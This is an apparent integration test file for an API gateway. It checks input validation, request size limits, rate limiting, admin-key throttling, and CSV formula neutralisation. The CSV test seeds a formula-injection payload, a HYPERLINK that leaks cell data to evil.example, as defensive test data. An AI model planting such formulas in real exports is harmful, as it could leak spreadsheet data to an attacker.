"""Trust at the edge, on the real gateway: bodies that cannot be stored are 422s naming the field (not 500s),
bodies over the limit are 413s (declared or streamed), CSV exports cannot run formulas in a spreadsheet, random
API keys buy no fresh rate-limit bucket and guessing the admin key gets an address throttled."""

from __future__ import annotations

import base64
import csv
import io
import json
import secrets
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, datetime

import httpx

from tests.integration.conftest import Stacks
from tests.integration.test_history_api import start_gateway

KEY = "edge-key"
ADMIN_KEY = "edge-admin-key"
JSON = {"content-type": "application/json"}


def api(gateway, **headers: str) -> httpx.AsyncClient:
    return httpx.AsyncClient(base_url=gateway.url, trust_env=False, timeout=10, headers=headers)


async def own_gateway(run_service, env: dict[str, str]):
    """A gateway of the test's own (no workers): its rate-limit buckets and log start empty."""
    return await start_gateway(Stacks(run_service), env)


def assert_no_traceback(gateway) -> None:
    gateway.assert_running()
    out = gateway.output()
    assert "Traceback" not in out, out[-4000:]


async def test_unstorable_json_is_a_422_naming_the_field(run_service) -> None:
    gateway = await own_gateway(run_service, {"API_KEYS": KEY})
    async with api(gateway, **{"X-API-Key": KEY}) as client:
        before = (await client.get("/api/v1/agents/default")).json()["spec"]

        resp = await client.put("/api/v1/agents/default", content=b'{"name": "\\ud800"}', headers=JSON)
        assert resp.status_code == 422, resp.text
        [error] = resp.json()["detail"]
        assert error["loc"] == ["body", "name"] and error["input"] is None and error["type"] and error["msg"]

        for number in (b"NaN", b"1e999", b"-Infinity"):
            body = b'{"llm": {"temperature": ' + number + b"}}"
            resp = await client.put("/api/v1/agents/default", content=body, headers=JSON)
            assert resp.status_code == 422, (number, resp.text)
            assert [e["loc"] for e in resp.json()["detail"]] == [["body", "llm", "temperature"]]

        # nested, in a key, in an overlay (a dict of anything: it passed validation and reached PostgreSQL)
        overlay = b'{"overlays": {"browser": {"first_message": "hi \\udc00"}}}'
        resp = await client.put("/api/v1/agents/default", content=overlay, headers=JSON)
        assert resp.status_code == 422
        assert resp.json()["detail"][0]["loc"] == ["body", "overlays", "browser", "first_message"]
        create = b'{"agent_id": "edge-agent", "extraction_fields": {"\\ud800": "x"}}'
        resp = await client.post("/api/v1/agents", content=create, headers=JSON)
        assert resp.status_code == 422 and resp.json()["detail"][0]["loc"] == ["body", "extraction_fields", "\\ud800"]
        assert (await client.get("/api/v1/agents/edge-agent")).status_code == 404

        # invalid JSON keeps FastAPI's answer; a non-JSON body of invalid UTF-8 is a 422, not a 500
        broken = await client.put("/api/v1/agents/default", content=b'{"name": ', headers=JSON)
        assert broken.status_code == 422 and broken.json()["detail"][0]["type"] == "json_invalid"
        text = await client.put("/api/v1/agents/default", content=b"\xff\xfe", headers={"content-type": "text/plain"})
        assert text.status_code == 422, text.text

        # other client input that reached asyncpg unchecked: a version past the int column, a surrogate in a cursor
        huge = await client.put("/api/v1/agents/default", json=before, headers={"If-Match": '"99999999999"'})
        assert huge.status_code == 400, huge.text
        raw = json.dumps({"t": None, "id": "\ud800"}).encode()
        cursor = base64.urlsafe_b64encode(raw).decode().rstrip("=")
        assert (await client.get("/api/v1/calls", params={"cursor": cursor})).status_code == 400
        deep = base64.urlsafe_b64encode(b"[" * 5000).decode().rstrip("=")
        assert (await client.get("/api/v1/calls", params={"cursor": deep})).status_code == 400

        # nothing was written, and a good write still goes through
        assert (await client.get("/api/v1/agents/default")).json()["spec"] == before
        ok = await client.put("/api/v1/agents/default", json={**before, "name": "Victoria \U0001f600"})
        assert ok.status_code == 200, ok.text
        assert ok.json()["spec"]["name"] == "Victoria \U0001f600"
        assert (await client.put("/api/v1/agents/default", json=before)).status_code == 200
    assert_no_traceback(gateway)


async def test_bodies_over_the_limit_are_413(run_service) -> None:
    gateway = await own_gateway(run_service, {"API_KEYS": KEY})
    sent: list[int] = []

    async def chunked(total: int) -> AsyncIterator[bytes]:
        chunk = b" " * 65_536
        while sum(sent) < total:
            sent.append(len(chunk))
            yield chunk

    async with api(gateway, **{"X-API-Key": KEY}) as client:
        big = await client.put("/api/v1/agents/default", content=b" " * 2_000_000, headers=JSON)
        assert big.status_code == 413 and big.json() == {"detail": "request body over 1000000 bytes"}
        assert big.headers["x-content-type-options"] == "nosniff"  # still inside the security headers

        streamed = await client.put("/api/v1/agents/default", content=chunked(1_500_000), headers=JSON)
        assert "content-length" not in streamed.request.headers
        assert streamed.request.headers["transfer-encoding"] == "chunked"
        assert streamed.status_code == 413 and streamed.json() == {"detail": "request body over 1000000 bytes"}

        webhook = await client.post("/twilio/voice", content=b"a=" + b"b" * 70_000)
        assert webhook.status_code == 413 and webhook.json() == {"detail": "request body over 64000 bytes"}

        # a body under the limit is read as before
        spec = (await client.get("/api/v1/agents/default")).json()["spec"]
        padded = json.dumps(spec).encode() + b" " * 900_000
        assert (await client.put("/api/v1/agents/default", content=padded, headers=JSON)).status_code == 200
    assert_no_traceback(gateway)


async def test_csv_export_neutralises_formulas(run_service, db_pool) -> None:
    agent = f"csv-{uuid.uuid4().hex[:10]}"
    call_id = f"csv-call-{uuid.uuid4().hex[:10]}"
    started = datetime(2031, 4, 1, 12, 0, tzinfo=UTC)
    await db_pool.execute(
        """
        INSERT INTO calls (call_id, agent_id, client_type, from_number, to_number, started_at, duration_s,
                           end_reason, status, turns)
        VALUES ($1, $2, 'twilio', $3, '+15550002', $4, 12.5, $5, 'completed', 3)
        """,
        call_id,
        agent,
        '=HYPERLINK("http://evil.example/?leak="&A1,"call me")',
        started,
        "@SUM(1+1)",
    )
    gateway = await own_gateway(run_service, {"API_KEYS": KEY})
    async with api(gateway, **{"X-API-Key": KEY}) as client:
        resp = await client.get("/api/v1/calls/export", params={"agent_id": agent})
        assert resp.status_code == 200, resp.text
        header, row = list(csv.reader(io.StringIO(resp.text)))
        record = dict(zip(header, row, strict=True))
        assert record["from_number"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"call me")'
        assert record["to_number"] == "'+15550002" and record["end_reason"] == "'@SUM(1+1)"
        assert record["call_id"] == call_id and record["status"] == "completed"
        assert record["duration_s"] == "12.5" and record["turns"] == "3"  # our numbers: as they were
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
        as_json = (await client.get("/api/v1/calls/export", params={"agent_id": agent, "format": "json"})).json()
        assert as_json[0]["from_number"].startswith("=HYPERLINK")  # JSON is data, not a spreadsheet: unchanged
    assert_no_traceback(gateway)


async def test_random_bad_keys_share_one_bucket(run_service) -> None:
    env = {"API_KEYS": KEY, "API_RATE_LIMIT_PER_MINUTE": "1", "API_RATE_LIMIT_BURST": "5"}
    gateway = await own_gateway(run_service, env)
    async with api(gateway) as client:
        codes = [
            (await client.get("/api/v1/agents", headers={"X-API-Key": secrets.token_hex(12)})).status_code
            for _ in range(30)
        ]
        assert codes == [401] * 5 + [429] * 25, codes
        assert (await client.get("/api/v1/agents")).status_code == 429  # no key: the same bucket
        limited = await client.get("/admin/global-stop", headers={"X-API-Key": "not-the-admin-key"})
        assert limited.status_code == 429 and int(limited.headers["retry-after"]) >= 1  # /admin is limited too
        assert (await client.get("/api/v1/agents", headers={"X-API-Key": KEY})).status_code == 200  # own bucket
    assert_no_traceback(gateway)


async def test_failed_admin_keys_throttle_the_address(run_service) -> None:
    env = {"ADMIN_API_KEY": ADMIN_KEY, "ADMIN_FAILURES_PER_MINUTE": "3"}
    gateway = await own_gateway(run_service, env)
    right = {"X-API-Key": ADMIN_KEY}
    async with api(gateway) as client:
        assert (await client.get("/admin/global-stop", headers=right)).status_code == 200
        assert (await client.get("/admin/global-stop")).status_code == 401
        for guess in ("a", "b"):
            assert (await client.get("/admin/global-stop", headers={"X-API-Key": guess})).status_code == 401
        throttled = await client.get("/admin/global-stop", headers=right)
        assert throttled.status_code == 429, throttled.text
        assert 1 <= int(throttled.headers["retry-after"]) <= 20  # 3 a minute: one back in 20 s
        reset = await client.post("/admin/global-stop/reset", headers=right, json={"reset_by": "pytest"})
        assert reset.status_code == 429
        assert (await client.get("/api/v1/agents")).status_code == 200  # the API itself is not affected
    await gateway.wait_for_output("admin_key_throttled", timeout=5)
    assert gateway.output().count("admin_key_rejected") == 2  # the wrong keys, not the missing one
    assert_no_traceback(gateway)
